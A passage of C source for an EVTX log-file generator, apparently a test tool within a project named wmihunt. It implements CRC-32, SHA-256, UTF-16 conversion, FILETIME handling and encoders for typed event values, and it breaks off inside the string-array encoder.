/* evtxgen: wmihunt's own EVTX writer (see evtxgen.h). Written from
 * shared/docs/evtx-format-notes.md (cited as "notes §n") and from the bytes
 * of the real logs in shared/corpus/evtx; it shares no code with lib/. */
#include "evtxgen.h"
#include "evtxprov.h"

#include <dirent.h>
#include <errno.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>

/* ------------------------------------------------------------------ */
/* Layout constants (notes §1-§3).                                      */

#define FH_FIRST_CHUNK 8
#define FH_LAST_CHUNK 16
#define FH_NEXT_RECORD 24
#define FH_HEADER_SIZE 32
#define FH_MINOR 36
#define FH_MAJOR 38
#define FH_BLOCK_SIZE 40
#define FH_CHUNK_COUNT 42
#define FH_FLAGS 120
#define FH_CRC 124

#define CH_FIRST_NUM 8
#define CH_LAST_NUM 16
#define CH_FIRST_ID 24
#define CH_LAST_ID 32
#define CH_HEADER_SIZE 40
#define CH_LAST_REC 44
#define CH_FREE 48
#define CH_DATA_CRC 52
#define CH_FLAGS 120
#define CH_CRC 124
#define CH_STRINGS 128   /* 64 u32 heads of the name table */
#define CH_TEMPLATES 384 /* 32 u32 heads of the template table */
#define CH_RECORDS 512

#define NAME_BUCKETS 64
#define TMPL_BUCKETS 32
#define REC_HEADER 24

/* Windows writes 1 in the chunk flags of nearly every chunk in the corpus
 * (180 of 181 valid chunks). */
#define CHUNK_FLAGS_WINDOWS 1u

/* Written times start at 2024-11-14T18:15:56.8285353Z unless told. */
#define DEFAULT_FIRST_TIME 133760817568285353ull

/* ------------------------------------------------------------------ */
/* Little-endian helpers.                                               */

static void w16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)v; p[1] = (uint8_t)(v >> 8); }
static void w32(uint8_t *p, uint32_t v)
{
    for (int i = 0; i < 4; i++) p[i] = (uint8_t)(v >> (8 * i));
}
static void w64(uint8_t *p, uint64_t v)
{
    for (int i = 0; i < 8; i++) p[i] = (uint8_t)(v >> (8 * i));
}
static uint16_t r16(const uint8_t *p) { return (uint16_t)(p[0] | (p[1] << 8)); }
static uint32_t r32(const uint8_t *p)
{
    return (uint32_t)p[0] | ((uint32_t)p[1] << 8) | ((uint32_t)p[2] << 16) | ((uint32_t)p[3] << 24);
}

/* ------------------------------------------------------------------ */
/* CRC-32 (IEEE, reflected, as zlib; notes §1).                         */

static uint32_t crc_table[256];
static int crc_ready;

static void crc_init(void)
{
    for (uint32_t i = 0; i < 256; i++) {
        uint32_t c = i;
        for (int k = 0; k < 8; k++) c = (c & 1) ? 0xEDB88320u ^ (c >> 1) : c >> 1;
        crc_table[i] = c;
    }
    crc_ready = 1;
}

static uint32_t crc_update(uint32_t crc, const void *p, size_t n)
{
    const uint8_t *b = p;
    if (!crc_ready) crc_init();
    crc = ~crc;
    for (size_t i = 0; i < n; i++) crc = crc_table[(crc ^ b[i]) & 0xFF] ^ (crc >> 8);
    return ~crc;
}

uint32_t evtxgen_crc32(const void *p, size_t n) { return crc_update(0, p, n); }

/* Chunk header CRC: bytes 0-119 and 128-511 (notes §2). */
static uint32_t chunk_header_crc(const uint8_t *c)
{
    return crc_update(crc_update(0, c, 120), c + 128, 384);
}

/* ------------------------------------------------------------------ */
/* SHA-256 (FIPS 180-4), for the bench recipe check and the GUIDs of    */
/* templates.                                                           */

typedef struct sha256_ctx {
    uint32_t h[8];
    uint8_t buf[64];
    size_t nbuf;
    uint64_t len;
} sha256_ctx;

static const uint32_t sha_k[64] = {
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2};

#define ROR(x, n) (((x) >> (n)) | ((x) << (32 - (n))))

static void sha_block(sha256_ctx *c, const uint8_t *p)
{
    uint32_t w[64], a, b, cc, d, e, f, g, h;
    for (int i = 0; i < 16; i++)
        w[i] = ((uint32_t)p[4 * i] << 24) | ((uint32_t)p[4 * i + 1] << 16) |
               ((uint32_t)p[4 * i + 2] << 8) | p[4 * i + 3];
    for (int i = 16; i < 64; i++) {
        uint32_t s0 = ROR(w[i - 15], 7) ^ ROR(w[i - 15], 18) ^ (w[i - 15] >> 3);
        uint32_t s1 = ROR(w[i - 2], 17) ^ ROR(w[i - 2], 19) ^ (w[i - 2] >> 10);
        w[i] = w[i - 16] + s0 + w[i - 7] + s1;
    }
    a = c->h[0]; b = c->h[1]; cc = c->h[2]; d = c->h[3];
    e = c->h[4]; f = c->h[5]; g = c->h[6]; h = c->h[7];
    for (int i = 0; i < 64; i++) {
        uint32_t t1 = h + (ROR(e, 6) ^ ROR(e, 11) ^ ROR(e, 25)) + ((e & f) ^ (~e & g)) + sha_k[i] + w[i];
        uint32_t t2 = (ROR(a, 2) ^ ROR(a, 13) ^ ROR(a, 22)) + ((a & b) ^ (a & cc) ^ (b & cc));
        h = g; g = f; f = e; e = d + t1; d = cc; cc = b; b = a; a = t1 + t2;
    }
    c->h[0] += a; c->h[1] += b; c->h[2] += cc; c->h[3] += d;
    c->h[4] += e; c->h[5] += f; c->h[6] += g; c->h[7] += h;
}

static void sha_init(sha256_ctx *c)
{
    static const uint32_t iv[8] = {0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a,
                                   0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19};
    memcpy(c->h, iv, sizeof iv);
    c->nbuf = 0;
    c->len = 0;
}

static void sha_update(sha256_ctx *c, const void *data, size_t n)
{
    const uint8_t *p = data;
    c->len += n;
    if (c->nbuf) {
        size_t take = 64 - c->nbuf < n ? 64 - c->nbuf : n;
        memcpy(c->buf + c->nbuf, p, take);
        c->nbuf += take; p += take; n -= take;
        if (c->nbuf < 64) return;
        sha_block(c, c->buf);
        c->nbuf = 0;
    }
    for (; n >= 64; p += 64, n -= 64) sha_block(c, p);
    memcpy(c->buf, p, n);
    c->nbuf = n;
}

static void sha_final(sha256_ctx *c, uint8_t out[32])
{
    uint64_t bits = c->len * 8;
    uint8_t pad = 0x80, zero = 0, lenb[8];
    sha_update(c, &pad, 1);
    while (c->nbuf != 56) sha_update(c, &zero, 1);
    for (int i = 0; i < 8; i++) lenb[i] = (uint8_t)(bits >> (56 - 8 * i));
    sha_update(c, lenb, 8);
    for (int i = 0; i < 8; i++) {
        out[4 * i] = (uint8_t)(c->h[i] >> 24); out[4 * i + 1] = (uint8_t)(c->h[i] >> 16);
        out[4 * i + 2] = (uint8_t)(c->h[i] >> 8); out[4 * i + 3] = (uint8_t)c->h[i];
    }
}

void evtxgen_sha256(const void *p, size_t n, uint8_t out[32])
{
    sha256_ctx c;
    sha_init(&c);
    sha_update(&c, p, n);
    sha_final(&c, out);
}

void evtxgen_sha256_hex(const void *p, size_t n, char out[65])
{
    uint8_t d[32];
    evtxgen_sha256(p, n, d);
    for (int i = 0; i < 32; i++) snprintf(out + 2 * i, 3, "%02x", d[i]);
}

/* ------------------------------------------------------------------ */
/* Growable byte buffer (malloc; used for the image and for text).       */

typedef struct buf {
    uint8_t *p;
    size_t n, cap;
    int oom;
} buf;

static int buf_reserve(buf *b, size_t more)
{
    if (b->oom) return -1;
    if (more <= b->cap - b->n) return 0;
    size_t cap = b->cap ? b->cap : 256;
    while (cap - b->n < more) cap *= 2;
    uint8_t *p = realloc(b->p, cap);
    if (!p) { b->oom = 1; return -1; }
    b->p = p;
    b->cap = cap;
    return 0;
}

static void buf_add(buf *b, const void *p, size_t n)
{
    if (buf_reserve(b, n + 1)) return;
    memcpy(b->p + b->n, p, n);
    b->n += n;
    b->p[b->n] = 0; /* text users read it as a C string */
}

static void buf_str(buf *b, const char *s) { buf_add(b, s, strlen(s)); }

static void buf_fmt(buf *b, const char *fmt, ...)
{
    char tmp[512];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(tmp, sizeof tmp, fmt, ap);
    va_end(ap);
    if (n > 0) buf_add(b, tmp, (size_t)n < sizeof tmp ? (size_t)n : sizeof tmp - 1);
}

/* ------------------------------------------------------------------ */
/* UTF-8 <-> UTF-16.                                                    */

/* Decodes one code point; invalid bytes give U+FFFD and advance by one. */
static uint32_t utf8_next(const unsigned char **ps)
{
    const unsigned char *s = *ps;
    uint32_t c = s[0];
    int n = 0;
    if (c < 0x80) { *ps = s + 1; return c; }
    if ((c & 0xE0) == 0xC0) { n = 1; c &= 0x1F; }
    else if ((c & 0xF0) == 0xE0) { n = 2; c &= 0x0F; }
    else if ((c & 0xF8) == 0xF0) { n = 3; c &= 0x07; }
    else { *ps = s + 1; return 0xFFFD; }
    for (int i = 1; i <= n; i++) {
        if ((s[i] & 0xC0) != 0x80) { *ps = s + 1; return 0xFFFD; }
        c = (c << 6) | (s[i] & 0x3F);
    }
    *ps = s + n + 1;
    return c;
}

static void utf8_put(buf *b, uint32_t c)
{
    uint8_t t[4];
    size_t n;
    if (c < 0x80) { t[0] = (uint8_t)c; n = 1; }
    else if (c < 0x800) { t[0] = (uint8_t)(0xC0 | (c >> 6)); t[1] = (uint8_t)(0x80 | (c & 0x3F)); n = 2; }
    else if (c < 0x10000) {
        t[0] = (uint8_t)(0xE0 | (c >> 12)); t[1] = (uint8_t)(0x80 | ((c >> 6) & 0x3F));
        t[2] = (uint8_t)(0x80 | (c & 0x3F)); n = 3;
    } else {
        t[0] = (uint8_t)(0xF0 | (c >> 18)); t[1] = (uint8_t)(0x80 | ((c >> 12) & 0x3F));
        t[2] = (uint8_t)(0x80 | ((c >> 6) & 0x3F)); t[3] = (uint8_t)(0x80 | (c & 0x3F)); n = 4;
    }
    buf_add(b, t, n);
}

/* UTF-8 to UTF-16LE bytes appended to b; returns the number of units. */
static size_t utf16_from_utf8(buf *b, const char *s)
{
    const unsigned char *p = (const unsigned char *)s;
    size_t units = 0;
    uint8_t t[2];
    while (*p) {
        uint32_t c = utf8_next(&p);
        if (c >= 0x10000) {
            c -= 0x10000;
            w16(t, (uint16_t)(0xD800 | (c >> 10))); buf_add(b, t, 2);
            w16(t, (uint16_t)(0xDC00 | (c & 0x3FF))); buf_add(b, t, 2);
            units += 2;
        } else {
            w16(t, (uint16_t)c); buf_add(b, t, 2);
            units++;
        }
    }
    return units;
}

/* Windows-1252 bytes 0x80-0x9F; the rest is Latin-1 (libevtx's default
 * codepage for ANSI strings, notes §6). 0 = undefined. */
static const uint16_t cp1252_hi[32] = {
    0x20AC, 0, 0x201A, 0x0192, 0x201E, 0x2026, 0x2020, 0x2021, 0x02C6, 0x2030, 0x0160, 0x2039, 0x0152, 0, 0x017D, 0,
    0, 0x2018, 0x2019, 0x201C, 0x201D, 0x2022, 0x2013, 0x2014, 0x02DC, 0x2122, 0x0161, 0x203A, 0x0153, 0, 0x017E, 0x0178};

/* ------------------------------------------------------------------ */
/* Time.                                                                */

static void civil_from_days(int64_t z, int *y, unsigned *m, unsigned *d)
{
    z += 719468;
    int64_t era = (z >= 0 ? z : z - 146096) / 146097;
    unsigned doe = (unsigned)(z - era * 146097);
    unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    int64_t yy = (int64_t)yoe + era * 400;
    unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    unsigned mp = (5 * doy + 2) / 153;
    *d = doy - (153 * mp + 2) / 5 + 1;
    *m = mp < 10 ? mp + 3 : mp - 9;
    *y = (int)(yy + (*m <= 2));
}

static int64_t days_from_civil(int y, unsigned m, unsigned d)
{
    y -= m <= 2;
    int64_t era = (y >= 0 ? y : y - 399) / 400;
    unsigned yoe = (unsigned)(y - era * 400);
    unsigned doy = (153 * (m > 2 ? m - 3 : m + 9) + 2) / 5 + d - 1;
    unsigned doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    return era * 146097 + (int64_t)doe - 719468;
}

#define FT_UNIX_DIFF 116444736000000000ull

void evtxgen_filetime_str(uint64_t ft, char out[32])
{
    // FILETIME is 100 ns since 1601; Windows prints all 7 digits + Z.
    uint64_t secs = ft / 10000000u, frac = ft % 10000000u;
    int64_t unix_s = (int64_t)secs - (int64_t)(FT_UNIX_DIFF / 10000000u);
    int64_t days = unix_s >= 0 ? unix_s / 86400 : -((-unix_s + 86399) / 86400);
    int64_t rem = unix_s - days * 86400;
    int y;
    unsigned m, d;
    civil_from_days(days, &y, &m, &d);
    char tmp[96];
    snprintf(tmp, sizeof tmp, "%04d-%02u-%02uT%02u:%02u:%02u.%07uZ", y, m, d, (unsigned)(rem / 3600),
             (unsigned)(rem / 60 % 60), (unsigned)(rem % 60), (unsigned)frac);
    size_t n = strlen(tmp) < 31 ? strlen(tmp) : 31;
    memcpy(out, tmp, n);
    out[n] = 0;
}

static uint64_t filetime_from(int y, unsigned mo, unsigned d, unsigned h, unsigned mi, unsigned s)
{
    int64_t days = days_from_civil(y, mo, d);
    int64_t unix_s = days * 86400 + h * 3600 + mi * 60 + s;
    return (uint64_t)(unix_s * 10000000 + (int64_t)FT_UNIX_DIFF);
}

/* ------------------------------------------------------------------ */
/* Name hash: h = h * 65599 + unit over the UTF-16 units, low 16 bits    */
/* stored (checked on all 7,289 names of the corpus).                   */

static uint32_t hash65599_units(const uint8_t *utf16, size_t units)
{
    uint32_t h = 0;
    for (size_t i = 0; i < units; i++) h = h * 65599u + r16(utf16 + 2 * i);
    return h;
}

/* ------------------------------------------------------------------ */
/* Generator state.                                                     */

typedef struct ablk {
    struct ablk *next;
    size_t used, cap;
    max_align_t data[];
} ablk;

typedef struct name_ent {
    const char *key;
    uint32_t off;
    int next; /* index of the previous name in the same bucket, -1 */
} name_ent;

typedef struct tmpl_ent {
    const uint8_t *guid;
    uint32_t off;
} tmpl_ent;

typedef struct chunk_state {
    uint8_t buf[EVTXGEN_CHUNK_SIZE];
    uint32_t pos; /* free-space offset */
    uint32_t last_rec, nrec;
    uint64_t first_id, last_id;
    name_ent *names;
    size_t nnames, capnames;
    int name_head[NAME_BUCKETS];
    tmpl_ent *tmpls;
    size_t ntmpls, captmpls;
    bool overflow;
} chunk_state;

/* Where a record landed, for the damage functions. */
typedef struct rec_info {
    uint32_t chunk, off, size;
    uint32_t tmpl_token, tmpl_field; /* chunk offsets; 0 = no template */
    bool tmpl_inline;
} rec_info;

typedef struct rattr {
    const char *name, *value;
    struct rattr *next;
} rattr;

/* A rendered element: what a correct reader shows (model, not bytes). */
typedef struct rnode {
    const char *name, *text;
    rattr *attrs, *lastattr;
    struct rnode *kids, *lastkid, *next;
} rnode;

typedef struct tcache {
    char *key;
    const evtxgen_tmpl *t;
} tcache;

struct evtxgen {
    evtxgen_opts o;
    ablk *arena;
    char err[256];
    bool failed, finished;
    buf img; /* file header + closed chunks */
    uint32_t nchunks;
    chunk_state ck;
    bool ck_open;
    uint64_t next_id, nrecords;
    evtxgen_expect *exp;
    const rnode **exp_ud;
    rec_info *recs;
    size_t nexp, capexp;
    tcache *tc;
    size_t ntc, captc;
    buf scratch; /* UTF-16 conversions */
};

static void fail(evtxgen *g, const char *fmt, ...)
{
    if (g->failed) return;
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(g->err, sizeof g->err, fmt, ap);
    va_end(ap);
    g->failed = true;
}

const char *evtxgen_error(const evtxgen *g) { return g->failed ? g->err : ""; }

static void *amalloc(evtxgen *g, size_t n)
{
    n = (n + sizeof(max_align_t) - 1) / sizeof(max_align_t) * sizeof(max_align_t);
    if (!n) n = sizeof(max_align_t);
    if (!g->arena || g->arena->cap - g->arena->used < n) {
        size_t cap = n > 65536 ? n : 65536;
        ablk *b = malloc(sizeof *b + cap);
        if (!b) { fail(g, "out of memory"); return NULL; }
        b->next = g->arena;
        b->used = 0;
        b->cap = cap;
        g->arena = b;
    }
    void *p = (char *)g->arena->data + g->arena->used;
    g->arena->used += n;
    memset(p, 0, n);
    return p;
}

static char *astrdup(evtxgen *g, const char *s)
{
    size_t n = strlen(s) + 1;
    char *p = amalloc(g, n);
    if (p) memcpy(p, s, n);
    return p;
}

static char *abufstr(evtxgen *g, const buf *b)
{
    if (b->oom) { fail(g, "out of memory"); return NULL; }
    char *p = amalloc(g, b->n + 1);
    if (p && b->n) memcpy(p, b->p, b->n);
    return p;
}

static void chunk_reset(chunk_state *c)
{
    memset(c->buf, 0, sizeof c->buf);
    c->pos = CH_RECORDS;
    c->last_rec = 0;
    c->nrec = 0;
    c->first_id = c->last_id = 0;
    c->nnames = c->ntmpls = 0;
    for (int i = 0; i < NAME_BUCKETS; i++) c->name_head[i] = -1;
    c->overflow = false;
}

evtxgen *evtxgen_new(const evtxgen_opts *opts)
{
    evtxgen *g = calloc(1, sizeof *g);
    if (!g) return NULL;
    if (opts) g->o = *opts;
    if (g->o.minor_version == 0) g->o.minor_version = 1;
    if (g->o.first_record_id == 0) g->o.first_record_id = 1;
    if (g->o.first_time == 0) g->o.first_time = DEFAULT_FIRST_TIME;
    g->next_id = g->o.first_record_id;
    if (g->o.minor_version != 1 && g->o.minor_version != 2) fail(g, "minor version must be 1 or 2");
    uint8_t zero[EVTXGEN_HEADER_SIZE] = {0};
    buf_add(&g->img, zero, sizeof zero);
    if (g->img.oom) fail(g, "out of memory");
    chunk_reset(&g->ck);
    return g;
}

void evtxgen_free(evtxgen *g)
{
    if (!g) return;
    while (g->arena) {
        ablk *n = g->arena->next;
        free(g->arena);
        g->arena = n;
    }
    free(g->img.p);
    free(g->ck.names);
    free(g->ck.tmpls);
    free(g->exp);
    free(g->exp_ud);
    free(g->recs);
    for (size_t i = 0; i < g->ntc; i++) free(g->tc[i].key);
    free(g->tc);
    free(g->scratch.p);
    free(g);
}

/* Written time of record number i (0-based) when the caller gives none:
 * 1.337 s apart, with all seven fractional digits in use. */
static uint64_t default_time(const evtxgen *g, uint64_t i)
{
    return g->o.first_time + i * 13370017u;
}

/* ------------------------------------------------------------------ */
/* Values (notes §6). Each keeps its bytes and its Windows rendering.   */

static evtxgen_val *val_new(evtxgen *g, uint8_t type, const void *bytes, size_t n, size_t nitems)
{
    if (g->failed) return NULL;
    if (n > 0xFFFF) { fail(g, "value of %zu bytes does not fit a descriptor", n); return NULL; }
    evtxgen_val *v = amalloc(g, sizeof *v);
    uint8_t *b = amalloc(g, n ? n : 1);
    const char **items = amalloc(g, (nitems ? nitems : 1) * sizeof *items);
    if (!v || !b || !items) return NULL;
    if (n) memcpy(b, bytes, n);
    v->type = type;
    v->size = (uint32_t)n;
    v->bytes = b;
    v->nitems = nitems;
    v->items = items;
    return v;
}

static const evtxgen_val *val_1(evtxgen *g, uint8_t type, const void *bytes, size_t n, const char *render)
{
    evtxgen_val *v = val_new(g, type, bytes, n, 1);
    if (!v) return NULL;
    ((const char **)v->items)[0] = astrdup(g, render);
    return v;
}

const evtxgen_val *evtxgen_v_null(evtxgen *g, uint32_t junk_size)
{
    // Windows stores some NULL values with bytes (Qualifiers: 2, ActivityID:
    // 16 in the WMI-Activity corpus file); readers must ignore them.
    uint8_t junk[16] = {1, 0, 0x60, 0x3a, 0x78, 0xb4, 0xc3, 2, 0, 0, 0x30, 0xf2, 0xc3, 0x20, 0xfc, 0x7f};
    if (junk_size > sizeof junk) junk_size = sizeof junk;
    return val_1(g, EVTXGEN_T_NULL, junk, junk_size, "");
}

static const evtxgen_val *str_val(evtxgen *g, const char *utf8, bool nul)
{
    buf b = {0};
    utf16_from_utf8(&b, utf8);
    if (nul) buf_add(&b, "\0", 2);
    const evtxgen_val *v = b.oom ? (fail(g, "out of memory"), NULL) : val_1(g, EVTXGEN_T_STR, b.p, b.n, utf8);
    free(b.p);
    return v;
}

const evtxgen_val *evtxgen_v_str(evtxgen *g, const char *utf8) { return str_val(g, utf8, false); }
const evtxgen_val *evtxgen_v_strz(evtxgen *g, const char *utf8) { return str_val(g, utf8, true); }

const evtxgen_val *evtxgen_v_utf16(evtxgen *g, const uint16_t *units, size_t n, const char *render)
{
    buf b = {0};
    uint8_t t[2];
    for (size_t i = 0; i < n; i++) { w16(t, units[i]); buf_add(&b, t, 2); }
    const evtxgen_val *v = b.oom ? (fail(g, "out of memory"), NULL) : val_1(g, EVTXGEN_T_STR, b.p, b.n, render);
    free(b.p);
    return v;
}

const evtxgen_val *evtxgen_v_ansi(evtxgen *g, const char *bytes)
{
    buf r = {0};
    for (const unsigned char *p = (const unsigned char *)bytes; *p; p++) {
        uint32_t c = *p;
        if (c >= 0x80 && c < 0xA0) c = cp1252_hi[c - 0x80] ? cp1252_hi[c - 0x80] : 0xFFFD;
        utf8_put(&r, c);
    }
    buf_add(&r, "", 0);
    const evtxgen_val *v = val_1(g, EVTXGEN_T_ANSI, bytes, strlen(bytes), r.p ? (char *)r.p : "");
    free(r.p);
    return v;
}

static unsigned int_width(uint8_t type)
{
    switch (type & 0x7F) {
    case EVTXGEN_T_I8: case EVTXGEN_T_U8: return 1;
    case EVTXGEN_T_I16: case EVTXGEN_T_U16: return 2;
    case EVTXGEN_T_I32: case EVTXGEN_T_U32: case EVTXGEN_T_HEX32: return 4;
    case EVTXGEN_T_I64: case EVTXGEN_T_U64: case EVTXGEN_T_HEX64: return 8;
    default: return 0;
    }
}

/* Windows' text for an integer of the given type (docs/output.md). */
static void int_render(uint8_t type, uint64_t raw, char out[32])
{
    unsigned w = int_width(type);
    uint64_t mask = w == 8 ? ~0ull : ((1ull << (8 * w)) - 1);
    uint64_t u = raw & mask;
    switch (type & 0x7F) {
    case EVTXGEN_T_I8: snprintf(out, 32, "%d", (int)(int8_t)u); break;
    case EVTXGEN_T_I16: snprintf(out, 32, "%d", (int)(int16_t)u); break;
    case EVTXGEN_T_I32: snprintf(out, 32, "%ld", (long)(int32_t)u); break;
    case EVTXGEN_T_I64: snprintf(out, 32, "%lld", (long long)(int64_t)u); break;
    case EVTXGEN_T_HEX32: case EVTXGEN_T_HEX64: snprintf(out, 32, "0x%llx", (unsigned long long)u); break;
    default: snprintf(out, 32, "%llu", (unsigned long long)u); break;
    }
}

static const evtxgen_val *int_val(evtxgen *g, uint8_t type, uint64_t raw)
{
    unsigned w = int_width(type);
    if (!w) { fail(g, "type 0x%02x is not an integer type", type); return NULL; }
    uint8_t b[8];
    char r[32];
    w64(b, raw);
    int_render(type, raw, r);
    return val_1(g, type, b, w, r);
}

const evtxgen_val *evtxgen_v_int(evtxgen *g, uint8_t type, int64_t v) { return int_val(g, type, (uint64_t)v); }
const evtxgen_val *evtxgen_v_uint(evtxgen *g, uint8_t type, uint64_t v) { return int_val(g, type, v); }

/* Shortest decimal that reads back to the same value (docs/output.md
 * does not fix a float form; Windows' exact form is unknown to us). */
const evtxgen_val *evtxgen_v_float(evtxgen *g, float v)
{
    char r[48];
    uint8_t b[4];
    uint32_t bits;
    for (int prec = 1; prec <= 9; prec++) {
        snprintf(r, sizeof r, "%.*g", prec, (double)v);
        if (strtof(r, NULL) == v) break;
    }
    memcpy(&bits, &v, 4);
    w32(b, bits);
    return val_1(g, EVTXGEN_T_FLOAT, b, 4, r);
}

const evtxgen_val *evtxgen_v_double(evtxgen *g, double v)
{
    char r[48];
    uint8_t b[8];
    uint64_t bits;
    for (int prec = 1; prec <= 17; prec++) {
        snprintf(r, sizeof r, "%.*g", prec, v);
        if (strtod(r, NULL) == v) break;
    }
    memcpy(&bits, &v, 8);
    w64(b, bits);
    return val_1(g, EVTXGEN_T_DOUBLE, b, 8, r);
}

const evtxgen_val *evtxgen_v_bool(evtxgen *g, uint32_t v)
{
    // Values other than 0/1 occur (notes §6): shown as their number.
    char r[16];
    uint8_t b[4];
    if (v <= 1) snprintf(r, sizeof r, "%s", v ? "true" : "false");
    else snprintf(r, sizeof r, "%u", v);
    w32(b, v);
    return val_1(g, EVTXGEN_T_BOOL, b, 4, r);
}

const evtxgen_val *evtxgen_v_bin(evtxgen *g, const void *p, size_t n)
{
    buf r = {0};
    const uint8_t *b = p;
    for (size_t i = 0; i < n; i++) buf_fmt(&r, "%02X", b[i]);
    buf_add(&r, "", 0);
    const evtxgen_val *v = val_1(g, EVTXGEN_T_BIN, p, n, r.p ? (char *)r.p : "");
    free(r.p);
    return v;
}

static int hexval(int c)
{
    if (c >= '0' && c <= '9') return c - '0';
    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
    if (c >= 'A' && c <= 'F') return c - 'A' + 10;
    return -1;
}

/* Text GUID to its 16 stored bytes (u32, u16, u16 LE, then 8 raw). */
static int guid_parse(const char *s, uint8_t out[16])
{
    uint8_t be[16];
    int n = 0;
    for (const char *p = s; *p && n < 32; p++) {
        if (*p == '{' || *p == '}' || *p == '-') continue;
        int h = hexval(*p);
        if (h < 0) return -1;
        if (n % 2 == 0) be[n / 2] = (uint8_t)(h << 4);
        else be[n / 2] |= (uint8_t)h;
        n++;
    }
    if (n != 32) return -1;
    out[0] = be[3]; out[1] = be[2]; out[2] = be[1]; out[3] = be[0];
    out[4] = be[5]; out[5] = be[4]; out[6] = be[7]; out[7] = be[6];
    memcpy(out + 8, be + 8, 8);
    return 0;
}

static void guid_render(const uint8_t g[16], char out[40])
{
    snprintf(out, 40, "{%08X-%04X-%04X-%02X%02X-%02X%02X%02X%02X%02X%02X}", r32(g), r16(g + 4), r16(g + 6),
             g[8], g[9], g[10], g[11], g[12], g[13], g[14], g[15]);
}

const evtxgen_val *evtxgen_v_guid(evtxgen *g, const char *text)
{
    uint8_t b[16];
    char r[40];
    if (guid_parse(text, b)) { fail(g, "bad GUID \"%s\"", text); return NULL; }
    guid_render(b, r);
    return val_1(g, EVTXGEN_T_GUID, b, 16, r);
}

const evtxgen_val *evtxgen_v_sizet(evtxgen *g, uint64_t v, unsigned width)
{
    // SizeT is printed as hex, like HexInt (notes §6, edge_size_t_security).
    uint8_t b[8];
    char r[32];
    if (width != 4 && width != 8) { fail(g, "SizeT width must be 4 or 8"); return NULL; }
    if (width == 4) v &= 0xFFFFFFFFu;
    w64(b, v);
    snprintf(r, sizeof r, "0x%llx", (unsigned long long)v);
    return val_1(g, EVTXGEN_T_SIZET, b, width, r);
}

const evtxgen_val *evtxgen_v_filetime(evtxgen *g, uint64_t ft)
{
    uint8_t b[8];
    char r[32];
    w64(b, ft);
    evtxgen_filetime_str(ft, r);
    return val_1(g, EVTXGEN_T_FILETIME, b, 8, r);
}

const evtxgen_val *evtxgen_v_systime(evtxgen *g, uint16_t year, uint16_t month, uint16_t day, uint16_t hour,
                                     uint16_t min, uint16_t sec, uint16_t ms)
{
    // Rendered like a FILETIME (7 fractional digits + Z): our canonical
    // form; docs/output.md names no separate SYSTEMTIME form.
    uint8_t b[16];
    char r[64];
    int64_t dow = (days_from_civil(year, month, day) + 4) % 7; /* 1970-01-01 was a Thursday */
    uint16_t f[8] = {year, month, (uint16_t)(dow < 0 ? dow + 7 : dow), day, hour, min, sec, ms};
    for (int i = 0; i < 8; i++) w16(b + 2 * i, f[i]);
    snprintf(r, sizeof r, "%04u-%02u-%02uT%02u:%02u:%02u.%03u0000Z", year, month, day, hour, min, sec, ms);
    return val_1(g, EVTXGEN_T_SYSTIME, b, 16, r);
}

const evtxgen_val *evtxgen_v_sid(evtxgen *g, const char *text)
{
    // Revision, count, 48-bit authority big-endian, sub-authorities LE (§6).
    uint8_t b[8 + 4 * 15];
    unsigned long long part[17];
    int n = 0;
    const char *p = text;
    if (strncmp(p, "S-", 2)) { fail(g, "bad SID \"%s\"", text); return NULL; }
    p += 2;
    while (*p && n < 17) {
        char *end;
        part[n++] = strtoull(p, &end, 10);
        if (end == p) { fail(g, "bad SID \"%s\"", text); return NULL; }
        p = *end == '-' ? end + 1 : end;
        if (*end && *end != '-') { fail(g, "bad SID \"%s\"", text); return NULL; }
    }
    if (n < 2 || n - 2 > 15) { fail(g, "bad SID \"%s\"", text); return NULL; }
    b[0] = (uint8_t)part[0];
    b[1] = (uint8_t)(n - 2);
    for (int i = 0; i < 6; i++) b[2 + i] = (uint8_t)(part[1] >> (8 * (5 - i)));
    for (int i = 2; i < n; i++) w32(b + 8 + 4 * (i - 2), (uint32_t)part[i]);
    return val_1(g, EVTXGEN_T_SID, b, (size_t)(8 + 4 * (n - 2)), text);
}

const evtxgen_val *evtxgen_v_binxml(evtxgen *g, const evtxgen_frag *f)
{
    if (!f) { fail(g, "BinXml value without a fragment"); return NULL; }
    evtxgen_val *v = val_new(g, EVTXGEN_T_BINXML, NULL, 0, 0);
    if (v) v->binxml = f;
    return v;
}

const evtxgen_val *evtxgen_v_strarray(evtxgen *g, const char *const *items, size_t n)
{
    // Items NUL-terminated back to back (notes §6; the PowerShell 800 in
    // the corpus ends its last item with a NUL too).
    buf b = {0};
    for (size_t i = 0; i < n; i++) {
        utf16_from_utf8(&b, items[i]);
        buf_add(&b, "\0", 2);
    }
    evtxgen_val *v = b.oom ? (fail(g, "out of memory"), NULL) : val_new(g, EVTXGEN_T_ARRAY | EVTXGEN_T_STR, b.p, b.n, n);
    free(b.p);
    if (!v) return NULL;
